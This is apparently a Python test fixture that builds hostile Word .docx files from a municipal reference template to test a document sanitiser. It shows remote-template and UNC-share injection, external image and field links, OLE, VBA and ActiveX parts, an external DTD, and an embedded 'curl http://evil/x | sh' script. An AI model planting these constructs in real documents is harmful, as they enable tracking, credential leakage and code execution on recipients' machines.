"""Hostile reference .docx files, generated from the shipped reference (a real Word package).

Each case adds one way a document can reach out (or hide something) to a reference that also
has what must survive cleaning: a header with text and an embedded PNG, a footer, house
styles, numbering and page setup. `URL` is where the hostile links point: tests serve it on
127.0.0.1 and count requests.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = ROOT / "guide_templates/templates/kanmin-2019/reference.docx"
OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
HEADER_TEXT = "矢巾町 総務課 様式第1号"
FOOTER_TEXT = "矢巾町 官民データ活用推進計画"
URL = "http://127.0.0.1:{port}"  # hostile links point here; .format(port=...) per test


def png(width: int = 4, height: int = 4) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    )


def drawing(attr: str) -> str:
    """An inline picture whose blip has `attr` (r:embed="…" and/or r:link="…")."""
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/><wp:docPr id="7" name="logo"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="7" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill><a:blip {attr}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r>"
    )


def field(instr: str, result: str = "（結果）") -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


class Docx:
    """The shipped reference as editable parts, with a header (text + PNG) and a footer added."""

    def __init__(self) -> None:
        with zipfile.ZipFile(SHIPPED) as zf:
            self.parts = {n: zf.read(n) for n in zf.namelist()}
        self.doc_rels: list[str] = []
        self.header_rels: list[str] = [
            '<Relationship Id="rIdImg" Type="' + OD + 'image" Target="media/logo.png"/>'
        ]
        self.header_body = (
            f"<w:p><w:r><w:t>{HEADER_TEXT}</w:t></w:r></w:p>"
            + "<w:p>"
            + drawing('r:embed="rIdImg"')
            + "</w:p>"
        )
        self.overrides = {"/word/header1.xml": WML + "header+xml", "/word/footer1.xml": WML + "footer+xml"}
        self.parts["word/media/logo.png"] = png()
        self.parts["word/footer1.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr {NS}><w:p><w:r><w:t>{FOOTER_TEXT}</w:t>'
            "</w:r></w:p></w:ftr>"
        ).encode()
        self.doc_rels += [
            f'<Relationship Id="rIdH1" Type="{OD}header" Target="header1.xml"/>',
            f'<Relationship Id="rIdF1" Type="{OD}footer" Target="footer1.xml"/>',
        ]
        self.body_extra = ""
        self.settings_extra = ""
        self.defaults: dict[str, str] = {}

    def build(self) -> bytes:
        p = dict(self.parts)
        doc = p["word/document.xml"].decode()
        refs = '<w:headerReference w:type="default" r:id="rIdH1"/><w:footerReference w:type="default" r:id="rIdF1"/>'
        doc = doc.replace("<w:body>", "<w:body>" + self.body_extra, 1)
        doc = doc.replace('w:rsidSect="00034616">', 'w:rsidSect="00034616">' + refs, 1)
        p["word/document.xml"] = doc.encode()
        p["word/header1.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr {NS}>{self.header_body}</w:hdr>'
        ).encode()
        p["word/_rels/header1.xml.rels"] = _rels(self.header_rels)
        rels = p["word/_rels/document.xml.rels"].decode()
        p["word/_rels/document.xml.rels"] = rels.replace(
            "</Relationships>", "".join(self.doc_rels) + "</Relationships>"
        ).encode()
        if self.settings_extra:
            s = p["word/settings.xml"].decode()
            i = s.index(">", s.index("<w:settings")) + 1
            p["word/settings.xml"] = (s[:i] + self.settings_extra + s[i:]).encode()
        ct = p["[Content_Types].xml"].decode()
        extra = "".join(f'<Override PartName="{k}" ContentType="{v}"/>' for k, v in self.overrides.items())
        extra += "".join(f'<Default Extension="{k}" ContentType="{v}"/>' for k, v in self.defaults.items())
        if 'Extension="png"' not in ct:
            extra += '<Default Extension="png" ContentType="image/png"/>'
        p["[Content_Types].xml"] = ct.replace("</Types>", extra + "</Types>").encode()
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in p.items():
                zf.writestr(name, data)
        return buf.getvalue()


def _rels(items: list[str]) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(items)
        + "</Relationships>"
    ).encode()


# --- the cases: each adds one hostile thing -------------------------------------------------------


def external_header_image(d: Docx, url: str) -> None:
    d.header_rels.append(
        f'<Relationship Id="rIdExt" Type="{OD}image" Target="{url}/header.png" TargetMode="External"/>'
    )
    d.header_body += "<w:p>" + drawing('r:link="rIdExt"') + "</w:p>"


def file_url_image(d: Docx, url: str) -> None:
    d.header_rels.append(
        f'<Relationship Id="rIdFile" Type="{OD}image" Target="file:///usr/share/pixmaps/debian-logo.png" TargetMode="External"/>'
    )
    d.header_body += "<w:p>" + drawing('r:embed="rIdImg" r:link="rIdFile"') + "</w:p>"


def vml_linked_image(d: Docx, url: str) -> None:
    d.header_body += (
        f'<w:p><w:r><w:pict><v:shape style="width:20pt;height:20pt"><v:imagedata src="{url}/vml.png" '
        f'o:href="{url}/vml2.png" o:title=""/></v:shape></w:pict></w:r></w:p>'
    )


def attached_template(d: Docx, url: str) -> None:
    d.parts["word/_rels/settings.xml.rels"] = _rels(
        [
            f'<Relationship Id="rIdT" Type="{OD}attachedTemplate" Target="{url}/Normal.dotm" TargetMode="External"/>',
            f'<Relationship Id="rIdU" Type="{OD}attachedTemplate" Target="\\\\evil-share\\t\\Normal.dotm" TargetMode="External"/>',
        ]
    )
    d.settings_extra = '<w:attachedTemplate r:id="rIdT" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/><w:linkStyles/>'


def includepicture(d: Docx, url: str) -> None:
    pic = field(f"INCLUDEPICTURE &quot;{url}/field.png&quot; " + "\\d")
    d.header_body += f"<w:p>{pic}</w:p>"
    d.body_extra += f"<w:p>{field(f'INCLUDETEXT &quot;{url}/text.docx&quot;', '取り込まれた本文')}</w:p>"
    d.body_extra += f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{url}/simple.png&quot; "><w:r><w:t>絵</w:t></w:r></w:fldSimple></w:p>'
    d.header_body += f"<w:p>{field('PAGE', '1')}</w:p>"  # a safe field stays


def ole_object(d: Docx, url: str) -> None:
    d.parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    d.doc_rels.append(f'<Relationship Id="rIdOle" Type="{OD}oleObject" Target="embeddings/oleObject1.bin"/>')
    d.doc_rels.append(
        f'<Relationship Id="rIdPkg" Type="{OD}package" Target="{url}/pkg.xlsx" TargetMode="External"/>'
    )
    d.defaults["bin"] = "application/vnd.openxmlformats-officedocument.oleObject"
    d.body_extra += (
        '<w:p><w:r><w:object><v:shape style="width:50pt;height:50pt"/>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdOle" UpdateMode="Always"/></w:object></w:r></w:p>'
    )


def renamed_vba(d: Docx, url: str) -> None:
    d.parts["word/harmless.dat"] = b"\xd0\xcf\x11\xe0 not really a picture: vba"
    d.doc_rels.append(
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="harmless.dat"/>'
    )
    d.overrides["/word/harmless.dat"] = "application/vnd.ms-office.vbaProject"


def activex(d: Docx, url: str) -> None:
    d.parts["word/activeX/activeX1.xml"] = (
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
    )
    d.doc_rels.append(f'<Relationship Id="rIdAx" Type="{OD}control" Target="activeX/activeX1.xml"/>')
    d.overrides["/word/activeX/activeX1.xml"] = "application/vnd.ms-office.activeX+xml"
    d.body_extra += '<w:p><w:r><w:pict><w:control r:id="rIdAx" w:name="CheckBox1"/></w:pict></w:r></w:p>'


def custom_xml(d: Docx, url: str) -> None:
    d.body_extra += (
        '<w:customXml w:uri="urn:evil" w:element="x"><w:p><w:r><w:t>カスタム内の本文</w:t></w:r></w:p></w:customXml>'
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{1}"/></w:sdtPr>'
        "<w:sdtContent><w:p><w:r><w:t>結合</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )


def dtd(d: Docx, url: str) -> None:
    styles = d.parts["word/styles.xml"].decode()
    i = styles.index("?>") + 2
    d.parts["word/styles.xml"] = (
        styles[:i] + f'<!DOCTYPE w:styles SYSTEM "{url}/styles.dtd">' + styles[i:]
    ).encode()


def unknown_part(d: Docx, url: str) -> None:
    d.parts["word/secret/payload.sh"] = b"#!/bin/sh\ncurl http://evil/x | sh\n"
    d.doc_rels.append('<Relationship Id="rIdX" Type="urn:unknown:relationship" Target="secret/payload.sh"/>')
    d.defaults["sh"] = "application/x-sh"
    d.parts["word/orphan.xml"] = b"<orphan/>"
    d.doc_rels.append(
        f'<Relationship Id="rIdHl" Type="{OD}hyperlink" Target="{url}/phish" TargetMode="External"/>'
    )
    d.body_extra += '<w:p><w:hyperlink r:id="rIdHl"><w:r><w:t>リンクの文字</w:t></w:r></w:hyperlink></w:p>'


def fake_image(d: Docx, url: str) -> None:
    d.parts["word/media/fake.png"] = (
        b"<svg xmlns='http://www.w3.org/2000/svg'><image href='" + url.encode() + b"/svg.png'/></svg>"
    )
    d.header_rels.append(f'<Relationship Id="rIdFake" Type="{OD}image" Target="media/fake.png"/>')
    d.header_body += "<w:p>" + drawing('r:embed="rIdFake"') + "</w:p>"


CASES: dict[str, Callable[[Docx, str], None]] = {
    f.__name__: f
    for f in (
        external_header_image,
        file_url_image,
        vml_linked_image,
        attached_template,
        includepicture,
        ole_object,
        renamed_vba,
        activex,
        custom_xml,
        dtd,
        unknown_part,
        fake_image,
    )
}


def hostile(name: str, url: str) -> bytes:
    """One case (or "everything": all of them in one file)."""
    d = Docx()
    for case in CASES.values() if name == "everything" else [CASES[name]]:
        case(d, url)
    return d.build()
